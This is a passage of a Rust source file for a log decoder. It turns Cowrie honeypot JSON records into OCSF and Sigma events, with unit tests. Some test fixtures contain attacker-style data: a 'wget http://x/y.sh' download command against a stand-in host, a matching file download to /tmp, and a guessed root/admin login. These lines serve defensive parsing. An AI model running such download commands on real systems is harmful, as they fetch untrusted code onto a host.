//! Cowrie honeypot JSON log (`var/log/cowrie/cowrie.json`): one JSON object per line,
//! keyed by `eventid` (`cowrie.session.connect`, `cowrie.login.failed`,
//! `cowrie.command.input`, …). Event ids and attributes: Cowrie's "Output Event Code
//! Reference" (docs/OUTPUT.rst) and its output plugins (src/cowrie/output/*.py).
//!
//! Every record carries the shared attributes `eventid`, `timestamp`, `session`,
//! `src_ip`, `sensor`, `message`; the rest depends on the event id. Each event id maps
//! to one OCSF class (see `docs/sources/cowrie.md`); event ids Vigil does not know
//! become a Base Event rather than a dead letter, since Cowrie adds new ones over time.
//!
//! Quirks handled:
//! - `duration` is a string (`"0.3"`) in current Cowrie and a number in older releases;
//!   `size`, ports, `width`/`height`, VirusTotal counts get the same tolerance.
//! - `message` is a string, except in `cowrie.session.params`, where it is `[]`.
//! - `cowrie.direct-tcpip.*` put a host name in `dst_ip` when the attacker asked for one
//!   (`"dst_ip":"google.com"`): it goes to the hostname, not the IP.
//! - Commands, downloads and the session close do not repeat the user name: the decoder
//!   remembers the name of each session's successful login (bounded) and adds it.

use std::borrow::Cow;
use std::collections::HashMap;
use std::fmt;

use serde::de::{self, Deserializer, IgnoredAny, MapAccess, SeqAccess, Unexpected, Visitor};
use serde::Deserialize;
use serde_json::{json, Map, Value};
use vigil_event::LogSource;

use crate::doc::Doc;
use crate::ocsf::{self, activity, Class};
use crate::{DeadLetterReason, DecodeError, Decoder, Normalized, RawRecord, SourceKind};

/// Cowrie lines are small; the largest are `direct-tcpip.data` payload dumps. A line
/// beyond this is not a Cowrie event.
const MAX_RECORD_BYTES: usize = 4 << 20;

/// Sessions whose login user name is remembered at once. Sessions are forgotten when
/// they close; when this many are open (closes lost, or a flood), the memory is reset.
const MAX_SESSIONS: usize = 65_536;

/// Whether `record` is a Cowrie event: an `eventid` key and a `"cowrie.` value.
pub(crate) fn looks_like(record: &str) -> bool {
    let bytes = record.as_bytes();
    memchr::memmem::find(bytes, b"\"cowrie.").is_some() && memchr::memmem::find(bytes, b"\"eventid\"").is_some()
}

/// Decodes Cowrie JSON lines.
#[derive(Default)]
pub(crate) struct CowrieDecoder {
    /// session id → user name of the session's successful login.
    users: HashMap<String, String>,
}

impl Decoder for CowrieDecoder {
    fn kind(&self) -> SourceKind {
        SourceKind::Cowrie
    }

    fn decode(&mut self, record: &str, out: &mut Vec<Normalized>) -> Result<(), DecodeError> {
        if record.len() > MAX_RECORD_BYTES {
            return Err(DecodeError::new(
                DeadLetterReason::TooLarge,
                format!("Cowrie record of {} bytes exceeds the {MAX_RECORD_BYTES}-byte bound", record.len()),
            ));
        }
        let rec: CowrieRecord<'_> = serde_json::from_str(record).map_err(|e| diagnose(record, &e))?;
        let event = self.normalize(&rec, record)?;
        out.push(event);
        Ok(())
    }
}

/// The attributes of all Cowrie event ids Vigil reads; everything else stays in the raw
/// record. Strings borrow from the line unless they contain escapes.
#[derive(Deserialize)]
struct CowrieRecord<'a> {
    #[serde(borrow)]
    eventid: Option<Cow<'a, str>>,
    #[serde(borrow)]
    timestamp: Option<Cow<'a, str>>,
    #[serde(borrow)]
    session: Option<Cow<'a, str>>,
    #[serde(borrow)]
    sensor: Option<Cow<'a, str>>,
    #[serde(borrow)]
    uuid: Option<Cow<'a, str>>,
    #[serde(borrow)]
    protocol: Option<Cow<'a, str>>,
    #[serde(borrow, default)]
    message: Text<'a>,
    #[serde(borrow)]
    src_ip: Option<Cow<'a, str>>,
    #[serde(default)]
    src_port: Num,
    #[serde(borrow)]
    dst_ip: Option<Cow<'a, str>>,
    #[serde(default)]
    dst_port: Num,
    #[serde(borrow)]
    username: Option<Cow<'a, str>>,
    #[serde(borrow)]
    password: Option<Cow<'a, str>>,
    #[serde(borrow)]
    fingerprint: Option<Cow<'a, str>>,
    #[serde(borrow, rename = "type")]
    key_type: Option<Cow<'a, str>>,
    #[serde(borrow)]
    input: Option<Cow<'a, str>>,
    #[serde(borrow)]
    url: Option<Cow<'a, str>>,
    #[serde(borrow)]
    outfile: Option<Cow<'a, str>>,
    #[serde(borrow)]
    destfile: Option<Cow<'a, str>>,
    #[serde(borrow)]
    filename: Option<Cow<'a, str>>,
    #[serde(borrow)]
    shasum: Option<Cow<'a, str>>,
    #[serde(borrow)]
    sha256: Option<Cow<'a, str>>,
    #[serde(borrow)]
    version: Option<Cow<'a, str>>,
    #[serde(borrow)]
    hassh: Option<Cow<'a, str>>,
    #[serde(borrow, rename = "hasshAlgorithms")]
    hassh_algorithms: Option<Cow<'a, str>>,
    #[serde(borrow)]
    ja4: Option<Cow<'a, str>>,
    #[serde(borrow)]
    arch: Option<Cow<'a, str>>,
    #[serde(borrow)]
    name: Option<Cow<'a, str>>,
    #[serde(borrow)]
    value: Option<Cow<'a, str>>,
    #[serde(borrow)]
    ttylog: Option<Cow<'a, str>>,
    #[serde(default)]
    duration: Num,
    #[serde(default)]
    size: Num,
    #[serde(default)]
    width: Num,
    #[serde(default)]
    height: Num,
    #[serde(default)]
    positives: Num,
    #[serde(default)]
    total: Num,
}

/// The string attributes of [`CowrieRecord`] and the numeric ones, for error messages.
const STRING_FIELDS: &[&str] = &[
    "eventid",
    "timestamp",
    "session",
    "sensor",
    "uuid",
    "protocol",
    "src_ip",
    "dst_ip",
    "username",
    "password",
    "fingerprint",
    "type",
    "input",
    "url",
    "outfile",
    "destfile",
    "filename",
    "shasum",
    "sha256",
    "version",
    "hassh",
    "hasshAlgorithms",
    "ja4",
    "arch",
    "name",
    "value",
    "ttylog",
];
const NUMBER_FIELDS: &[&str] = &["src_port", "dst_port", "duration", "size", "width", "height", "positives", "total"];

/// Turns a failed typed parse into an actionable error: not JSON, not an object, or
/// which attribute has which unexpected type. Runs only on the error path.
fn diagnose(record: &str, err: &serde_json::Error) -> DecodeError {
    let value: Value = match serde_json::from_str(record) {
        Ok(v) => v,
        Err(e) => return DecodeError::invalid_json(&e),
    };
    let Value::Object(object) = value else {
        return DecodeError::new(DeadLetterReason::UnknownFormat, "a Cowrie event must be a JSON object");
    };
    for field in STRING_FIELDS {
        if let Some(v) = object.get(*field) {
            if !(v.is_string() || v.is_null()) {
                return DecodeError::new(
                    DeadLetterReason::InvalidField,
                    format!("Cowrie attribute `{field}` must be a string, found {}", json_kind(v)),
                );
            }
        }
    }
    for field in NUMBER_FIELDS {
        if let Some(v) = object.get(*field) {
            let ok = match v {
                Value::Number(_) | Value::Null => true,
                Value::String(s) => s.trim().is_empty() || s.trim().parse::<f64>().is_ok_and(f64::is_finite),
                _ => false,
            };
            if !ok {
                return DecodeError::new(
                    DeadLetterReason::InvalidField,
                    format!("Cowrie attribute `{field}` must be a number or a numeric string, found {}", json_kind(v)),
                );
            }
        }
    }
    DecodeError::new(DeadLetterReason::InvalidField, format!("Cowrie event does not parse: {err}"))
}

fn json_kind(v: &Value) -> String {
    match v {
        Value::Null => "null".into(),
        Value::Bool(b) => format!("boolean {b}"),
        Value::Number(n) => format!("number {n}"),
        Value::String(s) => format!("string {:?}", truncate(s, 40)),
        Value::Array(_) => "an array".into(),
        Value::Object(_) => "an object".into(),
    }
}

fn truncate(s: &str, max: usize) -> &str {
    match s.char_indices().nth(max) {
        Some((i, _)) => &s[..i],
        None => s,
    }
}

/// A number that Cowrie writes as a JSON number in some versions and as a string in
/// others (`duration`: `0.3` / `"0.3"`). Null and the empty string are "absent".
#[derive(Debug, Clone, Copy, Default, PartialEq)]
struct Num(Option<f64>);

impl<'de> Deserialize<'de> for Num {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct NumVisitor;
        impl Visitor<'_> for NumVisitor {
            type Value = Num;
            fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
                f.write_str("a number or a numeric string")
            }
            fn visit_u64<E: de::Error>(self, v: u64) -> Result<Num, E> {
                Ok(Num(Some(v as f64)))
            }
            fn visit_i64<E: de::Error>(self, v: i64) -> Result<Num, E> {
                Ok(Num(Some(v as f64)))
            }
            fn visit_f64<E: de::Error>(self, v: f64) -> Result<Num, E> {
                Ok(Num(Some(v)))
            }
            fn visit_str<E: de::Error>(self, v: &str) -> Result<Num, E> {
                let t = v.trim();
                if t.is_empty() {
                    return Ok(Num(None));
                }
                match t.parse::<f64>() {
                    Ok(n) if n.is_finite() => Ok(Num(Some(n))),
                    _ => Err(E::invalid_value(Unexpected::Str(v), &self)),
                }
            }
            fn visit_unit<E: de::Error>(self) -> Result<Num, E> {
                Ok(Num(None))
            }
        }
        d.deserialize_any(NumVisitor)
    }
}

impl Num {
    /// A non-negative integer (ports, sizes, counts).
    fn as_u64(self) -> Option<u64> {
        self.0.filter(|n| *n >= 0.0 && n.fract() == 0.0 && *n <= u64::MAX as f64).map(|n| n as u64)
    }
}

/// A text attribute that is not always text (`message` is `[]` in
/// `cowrie.session.params`): anything but a string reads as absent.
#[derive(Debug, Default)]
struct Text<'a>(Option<Cow<'a, str>>);

impl<'de: 'a, 'a> Deserialize<'de> for Text<'a> {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct TextVisitor;
        impl<'de> Visitor<'de> for TextVisitor {
            type Value = Text<'de>;
            fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
                f.write_str("any JSON value")
            }
            fn visit_borrowed_str<E: de::Error>(self, v: &'de str) -> Result<Text<'de>, E> {
                Ok(Text(Some(Cow::Borrowed(v))))
            }
            fn visit_str<E: de::Error>(self, v: &str) -> Result<Text<'de>, E> {
                Ok(Text(Some(Cow::Owned(v.to_owned()))))
            }
            fn visit_string<E: de::Error>(self, v: String) -> Result<Text<'de>, E> {
                Ok(Text(Some(Cow::Owned(v))))
            }
            fn visit_bool<E: de::Error>(self, _: bool) -> Result<Text<'de>, E> {
                Ok(Text(None))
            }
            fn visit_i64<E: de::Error>(self, _: i64) -> Result<Text<'de>, E> {
                Ok(Text(None))
            }
            fn visit_u64<E: de::Error>(self, _: u64) -> Result<Text<'de>, E> {
                Ok(Text(None))
            }
            fn visit_f64<E: de::Error>(self, _: f64) -> Result<Text<'de>, E> {
                Ok(Text(None))
            }
            fn visit_unit<E: de::Error>(self) -> Result<Text<'de>, E> {
                Ok(Text(None))
            }
            fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Text<'de>, A::Error> {
                while seq.next_element::<IgnoredAny>()?.is_some() {}
                Ok(Text(None))
            }
            fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Text<'de>, A::Error> {
                while map.next_entry::<IgnoredAny, IgnoredAny>()?.is_some() {}
                Ok(Text(None))
            }
        }
        d.deserialize_any(TextVisitor)
    }
}

/// What an event id is, for the OCSF class and the Sigma fields.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Connect,
    Closed,
    LoginSuccess,
    LoginFailed,
    /// `cowrie.client.fingerprint`: a public-key login attempt (its outcome follows as
    /// `login.success` / `login.failed`).
    KeyAttempt,
    /// `command.input` (outcome unknown), `command.failed` (not found), `command.success`.
    Command(Option<bool>),
    /// `file_download` / `file_upload` (true), `file_download.failed` (false).
    File(bool),
    ClientVersion,
    ClientKex,
    /// `direct-tcpip.request`: the attacker asks the honeypot to forward a connection.
    ForwardRequest,
    /// `direct-tcpip.data`: data the attacker tried to send through it.
    ForwardData,
    /// `direct-tcpip.ja4`: JA4 fingerprint of TLS sent through the forward.
    ForwardJa4,
    /// Everything else (client.size / var, session.params, log.closed, virustotal.*,
    /// and event ids Vigil does not know).
    Other,
}

fn kind_of(eventid: &str) -> Kind {
    match eventid {
        "cowrie.session.connect" => Kind::Connect,
        "cowrie.session.closed" => Kind::Closed,
        "cowrie.login.success" => Kind::LoginSuccess,
        "cowrie.login.failed" => Kind::LoginFailed,
        "cowrie.client.fingerprint" => Kind::KeyAttempt,
        "cowrie.command.input" => Kind::Command(None),
        "cowrie.command.failed" => Kind::Command(Some(false)),
        "cowrie.command.success" => Kind::Command(Some(true)),
        "cowrie.session.file_download" | "cowrie.session.file_upload" => Kind::File(true),
        "cowrie.session.file_download.failed" => Kind::File(false),
        "cowrie.client.version" => Kind::ClientVersion,
        "cowrie.client.kex" => Kind::ClientKex,
        "cowrie.direct-tcpip.request" => Kind::ForwardRequest,
        "cowrie.direct-tcpip.data" => Kind::ForwardData,
        "cowrie.direct-tcpip.ja4" => Kind::ForwardJa4,
        _ => Kind::Other,
    }
}

fn cowrie_logsource() -> LogSource {
    LogSource::new(Some("cowrie"), None, None)
}

fn port(n: Num, field: &str) -> Result<Option<u64>, DecodeError> {
    match n.0 {
        None => Ok(None),
        Some(_) => match n.as_u64().filter(|p| *p <= 65_535) {
            Some(p) => Ok(Some(p)),
            None => Err(DecodeError::new(
                DeadLetterReason::InvalidField,
                format!("Cowrie attribute `{field}` must be a port number 0-65535, found {}", n.0.unwrap_or_default()),
            )),
        },
    }
}

fn is_ip(s: &str) -> bool {
    s.parse::<std::net::IpAddr>().is_ok()
}

/// OCSF `hashes` entry for a SHA-256 digest (algorithm_id 3).
fn sha256(value: &str) -> Value {
    json!([{"algorithm_id": 3, "algorithm": "SHA-256", "value": value}])
}

impl CowrieDecoder {
    fn normalize(&mut self, rec: &CowrieRecord<'_>, record: &str) -> Result<Normalized, DecodeError> {
        let eventid = rec.eventid.as_deref().ok_or_else(|| DecodeError::missing("eventid"))?;
        let time = match rec.timestamp.as_deref() {
            None => None,
            Some(ts) => Some(vigil_event::parse_timestamp(ts).ok_or_else(|| {
                DecodeError::new(
                    DeadLetterReason::InvalidField,
                    format!("Cowrie attribute `timestamp` is not an ISO 8601 time: {:?}", truncate(ts, 60)),
                )
            })?),
        };
        let src_port = port(rec.src_port, "src_port")?;
        let dst_port = port(rec.dst_port, "dst_port")?;
        let kind = kind_of(eventid);
        let session = rec.session.as_deref();

        // The session's user: named by login events, remembered for the rest.
        let user: Option<String> = match kind {
            Kind::LoginSuccess | Kind::LoginFailed | Kind::KeyAttempt => rec.username.as_deref().map(str::to_owned),
            _ => session.and_then(|s| self.users.get(s)).cloned(),
        };
        if let (Kind::LoginSuccess, Some(s), Some(u)) = (kind, session, rec.username.as_deref()) {
            if self.users.len() >= MAX_SESSIONS && !self.users.contains_key(s) {
                self.users.clear();
            }
            self.users.insert(s.to_owned(), u.to_owned());
        }
        if kind == Kind::Closed {
            if let Some(s) = session {
                self.users.remove(s);
            }
        }

        let (class, activity_id) = match kind {
            Kind::Connect => (Class::NetworkActivity, activity::NETWORK_OPEN),
            Kind::Closed => (Class::NetworkActivity, activity::NETWORK_CLOSE),
            Kind::ClientVersion | Kind::ClientKex | Kind::ForwardRequest | Kind::ForwardJa4 => {
                (Class::NetworkActivity, activity::OTHER)
            }
            Kind::ForwardData => (Class::NetworkActivity, activity::NETWORK_TRAFFIC),
            Kind::LoginSuccess | Kind::LoginFailed | Kind::KeyAttempt => (Class::Authentication, activity::AUTH_LOGON),
            Kind::Command(_) => (Class::ProcessActivity, activity::PROCESS_LAUNCH),
            Kind::File(_) => (Class::FileSystemActivity, activity::FILE_CREATE),
            Kind::Other => (Class::Base, activity::OTHER),
        };
        let mut ev = ocsf::base(class, activity_id, time, "Cowrie");
        ocsf::set(&mut ev, "metadata.event_code", eventid);
        if let Some(m) = rec.message.0.as_deref() {
            ocsf::set(&mut ev, "message", m);
        }
        if let Some(sensor) = rec.sensor.as_deref() {
            ocsf::set(&mut ev, "device.hostname", sensor);
        }
        if let Some(uuid) = rec.uuid.as_deref() {
            ocsf::set(&mut ev, "device.uid", uuid);
        }
        if activity_id == activity::OTHER {
            ocsf::set(&mut ev, "activity_name", eventid);
        }

        let src_ip = rec.src_ip.as_deref();
        // direct-tcpip names the requested target, which may be a host name.
        let dst = rec.dst_ip.as_deref();
        let (dst_ip, dst_host) = match dst {
            Some(d) if is_ip(d) => (Some(d), None),
            Some(d) => (None, Some(d)),
            None => (None, None),
        };
        let mut sigma = Map::new();
        if let Some(ip) = src_ip {
            sigma.insert("SourceIp".into(), ip.into());
        }

        match kind {
            Kind::Connect
            | Kind::Closed
            | Kind::ClientVersion
            | Kind::ClientKex
            | Kind::ForwardRequest
            | Kind::ForwardData
            | Kind::ForwardJa4 => {
                let forward = matches!(kind, Kind::ForwardRequest | Kind::ForwardData | Kind::ForwardJa4);
                if src_ip.is_some() || src_port.is_some() {
                    ev.insert("src_endpoint", ocsf::endpoint(src_ip, src_port, None));
                }
                if dst.is_some() || dst_port.is_some() {
                    ev.insert("dst_endpoint", ocsf::endpoint(dst_ip, dst_port, dst_host));
                }
                ocsf::set(&mut ev, "connection_info.uid", session.map(Value::from).unwrap_or(Value::Null));
                ocsf::set(&mut ev, "connection_info.protocol_name", "tcp");
                if !forward {
                    // Sessions are connections made to the honeypot.
                    ocsf::set(&mut ev, "connection_info.direction", "Inbound");
                    ocsf::set(&mut ev, "connection_info.direction_id", 1);
                }
                if let Some(p) = rec.protocol.as_deref() {
                    ocsf::set(&mut ev, "app_name", p);
                }
                if let Some(ms) = duration_ms(rec.duration) {
                    ocsf::set(&mut ev, "duration", ms);
                }
                if let Some(v) = rec.version.as_deref() {
                    ocsf::set(&mut ev, "unmapped.ssh.client_version", v);
                }
                if let Some(h) = rec.hassh.as_deref() {
                    ocsf::set(&mut ev, "unmapped.ssh.hassh", h);
                }
                if let Some(h) = rec.hassh_algorithms.as_deref() {
                    ocsf::set(&mut ev, "unmapped.ssh.hassh_algorithms", h);
                }
                if let Some(j) = rec.ja4.as_deref() {
                    ocsf::set(&mut ev, "unmapped.ja4", j);
                }
                if let Some(p) = src_port {
                    sigma.insert("SourcePort".into(), p.into());
                }
                if let Some(ip) = dst_ip {
                    sigma.insert("DestinationIp".into(), ip.into());
                }
                if let Some(h) = dst_host {
                    sigma.insert("DestinationHostname".into(), h.into());
                }
                if let Some(p) = dst_port {
                    sigma.insert("DestinationPort".into(), p.into());
                }
                if kind == Kind::Connect {
                    sigma.insert("Initiated".into(), "false".into());
                }
            }
            Kind::LoginSuccess | Kind::LoginFailed | Kind::KeyAttempt => {
                match kind {
                    Kind::LoginSuccess => ocsf::set_status(&mut ev, true),
                    Kind::LoginFailed => ocsf::set_status(&mut ev, false),
                    _ => {}
                }
                if let Some(u) = rec.username.as_deref() {
                    ocsf::set(&mut ev, "user.name", u);
                }
                if src_ip.is_some() || src_port.is_some() {
                    ev.insert("src_endpoint", ocsf::endpoint(src_ip, src_port, None));
                }
                ocsf::set(&mut ev, "session.uid", session.map(Value::from).unwrap_or(Value::Null));
                if let Some(p) = rec.protocol.as_deref() {
                    ocsf::set(&mut ev, "service.name", p);
                }
                // OCSF has no attribute for a tried password; honeypot passwords are
                // attack data, kept so analysts can see the guessed credentials.
                if let Some(p) = rec.password.as_deref() {
                    ocsf::set(&mut ev, "unmapped.password", p);
                }
                if let Some(f) = rec.fingerprint.as_deref() {
                    ocsf::set(&mut ev, "unmapped.key_fingerprint", f);
                }
                if let Some(t) = rec.key_type.as_deref() {
                    ocsf::set(&mut ev, "unmapped.key_type", t);
                }
            }
            Kind::Command(outcome) => {
                if let Some(ok) = outcome {
                    ocsf::set_status(&mut ev, ok);
                }
                let process = ocsf::Process { cmd_line: rec.input.as_deref(), ..Default::default() };
                ev.insert("process", process.to_value());
                actor(&mut ev, session, user.as_deref());
                if let Some(ip) = src_ip {
                    ocsf::set(&mut ev, "unmapped.src_ip", ip);
                }
                if let Some(input) = rec.input.as_deref() {
                    sigma.insert("CommandLine".into(), input.into());
                }
            }
            Kind::File(ok) => {
                if !ok {
                    ocsf::set_status(&mut ev, false);
                }
                // The file as the attacker placed it (`destfile`, the path in the
                // emulated file system) when Cowrie logs it, else where Cowrie stored
                // it on the sensor (`outfile`, named by its hash). The name is the one
                // the attacker used (`destfile`, or an upload's `filename`).
                let path = rec.destfile.as_deref().or(rec.outfile.as_deref());
                let name = rec.destfile.as_deref().or(rec.filename.as_deref()).or(path).map(ocsf::basename);
                let digest = rec.shasum.as_deref();
                if path.is_some() || digest.is_some() {
                    let mut file = Map::new();
                    if let Some(p) = path {
                        file.insert("path".into(), p.into());
                    }
                    if let Some(n) = name.filter(|n| !n.is_empty()) {
                        file.insert("name".into(), n.into());
                    }
                    file.insert("type_id".into(), 1.into());
                    if let Some(d) = digest {
                        file.insert("hashes".into(), sha256(d));
                    }
                    ev.insert("file", Value::Object(file));
                }
                actor(&mut ev, session, user.as_deref());
                for (name, value) in [
                    ("url", rec.url.as_deref()),
                    ("filename", rec.filename.as_deref()),
                    ("outfile", rec.outfile.as_deref()),
                    ("src_ip", src_ip),
                ] {
                    if let Some(v) = value {
                        ev.set_owned_path(&format!("unmapped.{name}"), v);
                    }
                }
                if let Some(p) = path {
                    sigma.insert("TargetFilename".into(), p.into());
                }
            }
            Kind::Other => {
                ocsf::set(&mut ev, "session.uid", session.map(Value::from).unwrap_or(Value::Null));
                if let Some(ms) = duration_ms(rec.duration) {
                    ocsf::set(&mut ev, "duration", ms);
                }
                let texts = [
                    ("src_ip", src_ip),
                    ("protocol", rec.protocol.as_deref()),
                    ("arch", rec.arch.as_deref()),
                    ("name", rec.name.as_deref()),
                    ("value", rec.value.as_deref()),
                    ("ttylog", rec.ttylog.as_deref()),
                    ("shasum", rec.shasum.as_deref()),
                    ("sha256", rec.sha256.as_deref()),
                    ("url", rec.url.as_deref()),
                    ("input", rec.input.as_deref()),
                ];
                for (name, value) in texts {
                    if let Some(v) = value {
                        ev.set_owned_path(&format!("unmapped.{name}"), v);
                    }
                }
                let numbers =
                    [("size", rec.size), ("width", rec.width), ("height", rec.height), ("positives", rec.positives)];
                for (name, value) in numbers.into_iter().chain([("total", rec.total)]) {
                    if let Some(v) = value.as_u64() {
                        ev.set_owned_path(&format!("unmapped.{name}"), v);
                    }
                }
            }
        }
        if let Some(u) = user.as_deref() {
            sigma.insert("User".into(), u.into());
        }
        Ok(Normalized {
            source: SourceKind::Cowrie,
            time,
            logsource: cowrie_logsource(),
            ocsf: ev,
            sigma: sigma.into(),
            raw: RawRecord::Json(record.to_owned()),
        })
    }
}

/// OCSF `actor` of a command or file event: the attacker's session and, when its login
/// was seen, its user name.
fn actor(ev: &mut Doc, session: Option<&str>, user: Option<&str>) {
    if let Some(s) = session {
        ocsf::set(ev, "actor.session.uid", s);
    }
    if let Some(u) = user {
        ocsf::set(ev, "actor.user.name", u);
    }
}

/// `duration` in seconds → OCSF `duration` in milliseconds.
fn duration_ms(n: Num) -> Option<u64> {
    n.0.filter(|s| s.is_finite() && *s >= 0.0 && *s < 1e12).map(|s| (s * 1000.0).round() as u64)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn decode_with(d: &mut CowrieDecoder, line: &str) -> Result<Normalized, DecodeError> {
        let mut out = Vec::new();
        d.decode(line, &mut out)?;
        assert_eq!(out.len(), 1);
        Ok(out.pop().expect("one event"))
    }

    fn decode(line: &str) -> Result<Normalized, DecodeError> {
        decode_with(&mut CowrieDecoder::default(), line)
    }

    const CONNECT: &str = r#"{"eventid":"cowrie.session.connect","src_ip":"35.179.124.8","src_port":58516,"dst_ip":"172.31.41.217","dst_port":2222,"session":"12f62330fdbd","protocol":"ssh","message":"New connection","sensor":"ip-172-31-41-217","uuid":"1d52d3b8","timestamp":"2026-04-18T12:46:33.693407Z"}"#;

    #[test]
    fn sniffs_cowrie_lines_only() {
        assert!(looks_like(CONNECT));
        assert!(looks_like(r#"{"eventid": "cowrie.login.failed"}"#));
        assert!(!looks_like(r#"{"eventid":"4624","message":"cowrie"}"#));
        assert!(!looks_like(r#"{"kind":"Event","verb":"get"}"#));
    }

    #[test]
    fn connect_is_network_open_with_both_endpoints() {
        let n = decode(CONNECT).expect("decodes");
        assert_eq!(n.ocsf["class_uid"], 4001);
        assert_eq!(n.ocsf["activity_id"], 1);
        assert_eq!(n.ocsf["src_endpoint"], json!({"ip": "35.179.124.8", "port": 58516}));
        assert_eq!(n.ocsf["dst_endpoint"], json!({"ip": "172.31.41.217", "port": 2222}));
        assert_eq!(n.ocsf["connection_info"]["uid"], "12f62330fdbd");
        assert_eq!(n.ocsf["device"]["hostname"], "ip-172-31-41-217");
        assert_eq!(n.sigma["SourceIp"], "35.179.124.8");
        assert_eq!(n.sigma["DestinationPort"], 2222);
        assert_eq!(n.logsource, LogSource::new(Some("cowrie"), None, None));
        assert_eq!(n.time.map(|t| t.timestamp_millis()), Some(1_776_516_393_693));
    }

    #[test]
    fn duration_is_read_as_string_or_number() {
        for d in [r#""0.3""#, "0.3"] {
            let line = format!(
                r#"{{"eventid":"cowrie.session.closed","duration":{d},"session":"s","src_ip":"1.2.3.4","timestamp":"2026-03-18T10:00:00Z"}}"#
            );
            let n = decode(&line).expect("decodes");
            assert_eq!(n.ocsf["duration"], 300, "{line}");
            assert_eq!(n.ocsf["activity_id"], 2);
        }
        let bad = r#"{"eventid":"cowrie.session.closed","duration":"soon"}"#;
        let e = decode(bad).expect_err("not a number");
        assert_eq!(e.reason, DeadLetterReason::InvalidField);
        assert!(e.message.contains("`duration`"), "{e}");
    }

    #[test]
    fn logins_commands_and_downloads_carry_the_session_user() {
        let mut d = CowrieDecoder::default();
        let ok = decode_with(
            &mut d,
            r#"{"eventid":"cowrie.login.success","username":"root","password":"admin","src_ip":"1.2.3.4","session":"s1","protocol":"ssh","timestamp":"2026-03-18T10:00:00Z"}"#,
        )
        .expect("login");
        assert_eq!(ok.ocsf["class_uid"], 3002);
        assert_eq!(ok.ocsf["status_id"], 1);
        assert_eq!(ok.ocsf["user"]["name"], "root");
        assert_eq!(ok.ocsf["unmapped"]["password"], "admin");
        assert_eq!(ok.sigma["User"], "root");

        let cmd = decode_with(
            &mut d,
            r#"{"eventid":"cowrie.command.input","input":"uname -a; wget http://x/y.sh","session":"s1","src_ip":"1.2.3.4","timestamp":"2026-03-18T10:00:01Z"}"#,
        )
        .expect("command");
        assert_eq!(cmd.ocsf["class_uid"], 1007);
        assert_eq!(cmd.ocsf["process"]["cmd_line"], "uname -a; wget http://x/y.sh");
        assert_eq!(cmd.ocsf["actor"], json!({"session": {"uid": "s1"}, "user": {"name": "root"}}));
        assert_eq!(cmd.sigma["CommandLine"], "uname -a; wget http://x/y.sh");
        assert_eq!(cmd.sigma["User"], "root");
        assert!(!cmd.sigma.contains_key("Image"));

        let dl = decode_with(
            &mut d,
            r#"{"eventid":"cowrie.session.file_download","url":"http://x/y.sh","outfile":"var/lib/cowrie/downloads/abc","shasum":"abc","destfile":"/tmp/y.sh","session":"s1","timestamp":"2026-03-18T10:00:02Z"}"#,
        )
        .expect("download");
        assert_eq!(dl.ocsf["class_uid"], 1001);
        assert_eq!(dl.ocsf["file"]["path"], "/tmp/y.sh");
        assert_eq!(dl.ocsf["file"]["hashes"][0]["value"], "abc");
        assert_eq!(dl.ocsf["unmapped"]["url"], "http://x/y.sh");
        assert_eq!(dl.sigma["TargetFilename"], "/tmp/y.sh");

        let closed =
            decode_with(&mut d, r#"{"eventid":"cowrie.session.closed","duration":1,"session":"s1"}"#).expect("closed");
        assert_eq!(closed.sigma["User"], "root");
        // The session is forgotten once closed.
        let late = decode_with(&mut d, r#"{"eventid":"cowrie.command.input","input":"id","session":"s1"}"#).expect("x");
        assert!(!late.sigma.contains_key("User"));
    }

    #[test]
    fn failed_command_and_failed_login_are_failures() {
        let n = decode(r#"{"eventid":"cowrie.command.failed","input":"whoa ","session":"s"}"#).expect("decodes");
        assert_eq!(n.ocsf["status_id"], 2);
        let n = decode(r#"{"eventid":"cowrie.login.failed","username":"a","password":"b","session":"s"}"#).expect("x");
        assert_eq!(n.ocsf["status_id"], 2);
        assert_eq!(n.ocsf["type_uid"], 300201);
    }

    #[test]
    fn forward_to_a_host_name_is_not_an_ip() {
        let n = decode(r#"{"eventid":"cowrie.direct-tcpip.request","dst_ip":"google.com","dst_port":443,"src_ip":"45.84.107.54","src_port":40488,"session":"s"}"#).expect("decodes");
        assert_eq!(n.ocsf["dst_endpoint"], json!({"hostname": "google.com", "port": 443}));
        assert_eq!(n.sigma["DestinationHostname"], "google.com");
        assert!(!n.sigma.contains_key("DestinationIp"));
        assert_eq!(n.ocsf["activity_id"], 99);
    }

    #[test]
    fn unknown_event_ids_and_list_messages_are_base_events() {
        let n = decode(r#"{"eventid":"cowrie.session.params","arch":"linux-x64-lsb","message":[],"session":"s"}"#)
            .expect("decodes");
        assert_eq!(n.ocsf["class_uid"], 0);
        assert_eq!(n.ocsf["unmapped"]["arch"], "linux-x64-lsb");
        assert!(n.ocsf.as_value().get("message").is_none());
        let n = decode(r#"{"eventid":"cowrie.something.new","whatever":{"x":[1]},"session":"s"}"#).expect("decodes");
        assert_eq!(n.ocsf["class_uid"], 0);
        assert_eq!(n.ocsf["metadata"]["event_code"], "cowrie.something.new");
    }

    #[test]
    fn errors_name_the_problem() {
        let e = decode(r#"{"eventid":"cowrie.login.failed","#).expect_err("truncated");
        assert_eq!(e.reason, DeadLetterReason::InvalidJson);
        let e = decode(r#"{"session":"s","src_ip":"1.2.3.4"}"#).expect_err("no eventid");
        assert_eq!(e.reason, DeadLetterReason::MissingField);
        assert!(e.message.contains("eventid"));
        let e = decode(r#"{"eventid":"cowrie.login.failed","username":7}"#).expect_err("number user");
        assert_eq!(e.reason, DeadLetterReason::InvalidField);
        assert!(e.message.contains("`username`"), "{e}");
        let e = decode(r#"{"eventid":"cowrie.session.connect","src_port":70000}"#).expect_err("port");
        assert_eq!(e.reason, DeadLetterReason::InvalidField);
        let e = decode(r#"{"eventid":"cowrie.session.connect","timestamp":"yesterday"}"#).expect_err("time");
        assert_eq!(e.reason, DeadLetterReason::InvalidField);
        let e = decode(r#"["eventid","cowrie.x"]"#).expect_err("array");
        assert_eq!(e.reason, DeadLetterReason::UnknownFormat);
    }

    #[test]
    fn escaped_input_is_unescaped() {
